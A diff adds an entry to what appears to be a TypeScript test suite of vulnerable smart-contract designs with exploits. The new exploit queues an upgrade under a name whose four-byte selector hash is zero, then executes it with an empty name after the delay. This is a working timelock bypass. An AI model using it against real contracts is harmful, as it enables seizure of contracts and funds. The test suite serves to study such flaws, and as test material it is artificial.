@@ -190,6 +190,20 @@ const drafts: readonly Draft[] = [
     },
   },
   {
+    name: 'the key of a queued operation covers four bytes of the hash of a name',
+    build: queued('ShortNameQueue'),
+    exploit: async (attack, built) => {
+      const run = sign(attack, built)
+      const eta = (await now(attack)) + 180_000n
+      const operation = (signature: string, name: string): Hex =>
+        callData(signature, [part(built, 'admin'), 0n, name, upgradeCall(built.address, attack.code), eta])
+      // The selector of this name is zero, so that a function is announced that the target does not have.
+      await run(operation(QUEUE, 'wycpnbqcyf()'))
+      await attack.wait(181_000)
+      await run(operation(EXECUTE, ''))
+    },
+  },
+  {
     name: 'of several calls only the first one is looked up in a queue',
     build: queued('FirstCallQueue'),
     exploit: async (attack, built) => {
